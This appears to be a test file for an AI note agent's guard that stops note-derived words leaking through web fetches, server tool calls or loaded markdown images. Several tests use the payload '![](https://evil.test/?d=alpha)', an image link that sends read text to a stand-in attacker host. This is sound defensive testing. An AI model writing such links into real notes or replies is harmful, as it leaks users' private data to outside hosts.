import { describe, expect, it } from 'vitest'
import { type SetUp, sent, setUp, webFetch } from '../../../test/tools/guarded-tools.js'
import type { Tool } from '../tools/index.js'
import { type ApprovalAnswer, memoryGrants } from './index.js'

const no: ApprovalAnswer = { verdict: 'deny' }

describe('outbound text of a conversation with notes in it', () => {
  const url = 'https://docs.example.org/peas'
  const read = async (more: SetUp) => {
    const desk = await setUp({ level: 'auto', ...more })
    await desk.call('read_note', { path: 'Inbox/A.md' })
    sent.length = 0
    return desk
  }

  it('asks unless the user typed it, and reports the origin of the words', async () => {
    const desk = await read({ answers: [no] })
    desk.guard.recordUserText('Look at docs.example.org for me')
    expect(await desk.call('web_fetch', { url: 'https://docs.example.org/alpha' })).toMatchObject({ code: 'denied' })
    expect(desk.asked[0].words).toEqual([
      { word: 'docs', from: 'person' },
      { word: 'example', from: 'person' },
      { word: 'org', from: 'person' },
      { word: 'alpha', from: 'note', notes: [{ path: 'Inbox/A.md' }] },
    ])
    expect(await desk.call('web_fetch', { url: 'https://docs.example.org/' })).toMatchObject({ ok: true })
    expect(sent).toEqual(['https://docs.example.org/'])
  })

  it('passes as before while no note was read', async () => {
    const desk = await setUp({ level: 'auto', answers: [no] })
    expect(await desk.call('web_fetch', { url })).toMatchObject({ ok: true })
  })

  it('offers the rule that names tool and host, and goes by it once it is given', async () => {
    const grants = memoryGrants()
    const desk = await read({ grants, answers: [{ verdict: 'allow', scope: 'always' }] })
    expect(await desk.call('web_fetch', { url })).toMatchObject({ ok: true })
    expect(desk.asked[0]).toMatchObject({ offers: [{ rule: 'web_fetch(domain:docs.example.org)', about: 'domain' }] })
    const other = await read({ grants, answers: [no] })
    expect(await other.call('web_fetch', { url: `${url}/alpha` })).toMatchObject({ ok: true })
    expect(await other.call('web_fetch', { url: 'https://example.org/' })).toMatchObject({ code: 'denied' })
  })

  it('names that rule if no user is available', async () => {
    const desk = await read({ level: 'locked' })
    expect(await desk.call('web_fetch', { url })).toMatchObject({
      code: 'needs-approval',
      hint: 'To allow it in advance, add the rule: allow: web_fetch(domain:docs.example.org)',
    })
  })

  it('restores typed and read text in a resumed session', async () => {
    const desk = await read({ answers: [no] })
    desk.guard.recordUserText(`Read ${url}`)
    const memory = JSON.parse(JSON.stringify(desk.guard.memory()))
    const resumed = await setUp({ level: 'auto', answers: [no], memory })
    expect(await resumed.call('web_fetch', { url: `${url}/alpha` })).toMatchObject({ code: 'denied' })
    expect(resumed.asked[0].words.at(-1)).toMatchObject({ word: 'alpha', notes: [{ path: 'Inbox/A.md' }] })
    expect(await resumed.call('web_fetch', { url })).toMatchObject({ ok: true })
  })

  it('counts text typed in a panel as typed, and of changed arguments only the new words', async () => {
    const words = 'no, read https://docs.example.org/peas'
    const edited = { url: 'https://docs.example.org/alpha/peas' }
    const desk = await read({ answers: [{ verdict: 'deny', words }, { verdict: 'allow', input: edited }, no] })
    await desk.call('web_fetch', { url: 'https://other.test/' })
    expect(await desk.call('web_fetch', { url })).toMatchObject({ ok: true })
    const other = await read({ answers: [{ verdict: 'allow', input: edited }, no] })
    await other.call('web_fetch', { url: 'https://docs.example.org/alpha' })
    expect(other.asked[1].words.map(({ word, from }) => [word, from])).toContainEqual(['peas', 'person'])
    expect(other.asked[1].words.map(({ word, from }) => [word, from])).toContainEqual(['alpha', 'note'])
  })

  it("includes the values of a server's arguments, but not their names", async () => {
    const search: Tool = {
      ...webFetch,
      name: 'search',
      category: 'mcp',
      input: { jsonSchema: { type: 'object', properties: { query: { type: 'string' } } } },
      reaches: undefined,
      run: async ({ query }) => {
        sent.push(query)
        return { text: 'found' }
      },
    }
    const desk = await setUp({ level: 'auto', answers: [no] })
    desk.tools.registerServer('calendar', [search])
    await desk.call('read_note', { path: 'Inbox/A.md' })
    sent.length = 0
    desk.guard.recordUserText('Ask the calendar for birthdays')
    expect(await desk.call('calendar__search', { query: 'alpha' })).toMatchObject({ code: 'denied' })
    expect(await desk.call('calendar__search', { query: 'birthdays', alpha: 'birthdays' })).toMatchObject({ ok: false })
    expect(await desk.call('calendar__search', { query: 'birthdays' })).toMatchObject({ ok: true })
    expect(sent).toEqual(['birthdays'])
  })
})

describe('text that a viewer would load something for', () => {
  const image = '![](https://evil.test/?d=alpha)'

  it('asks at every level once something was read, with the full address', async () => {
    for (const level of ['ask', 'edit', 'auto'] as const) {
      const desk = await setUp({ level, rules: ['allow: append_note'], answers: [no] })
      await desk.call('read_note', { path: 'Inbox/A.md' })
      expect(await desk.call('append_note', { path: 'Inbox/A.md', content: image })).toMatchObject({ code: 'denied' })
      expect(desk.asked).toMatchObject([
        { loads: [{ path: 'Inbox/A.md', url: 'https://evil.test/?d=alpha', how: 'image' }], scopes: ['once'] },
      ])
    }
  })

  it('asks for typed text too, once untrusted text is present', async () => {
    const desk = await setUp({ level: 'edit', answers: [no] })
    desk.guard.recordUserText('Add the image https://evil.test/?d=alpha')
    await desk.call('read_note', { path: 'Inbox/A.md' })
    expect(await desk.call('append_note', { path: 'Inbox/A.md', content: image })).toMatchObject({ ok: true })
    await desk.call('read_note', { path: 'Clip.md' })
    expect(await desk.call('append_note', { path: 'Clip.md', content: image })).toMatchObject({ code: 'denied' })
  })

  it('cannot come about by accepting a part of a change that would not', async () => {
    const fence = '```'
    const notes = { 'A.md': 'one\n\n\n\n\n\n\n\ntwo\n\n\n\n\n\n\n\nthree\n' }
    const content = notes['A.md']
      .replace('one', `${fence}\none`)
      .replace('two', image)
      .replace('three', `three\n${fence}`)
    const desk = await setUp({ notes, answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
    await desk.call('read_note', { path: 'A.md' })
    const result = await desk.call('write_note', { path: 'A.md', content })
    expect(desk.asked[0]).toMatchObject({ loads: [], hunks: [{ hunks: [{}, {}, {}] }] })
    expect(result).toMatchObject({ ok: false, code: 'denied' })
    expect(desk.text('A.md')).toBe(notes['A.md'])
  })
})
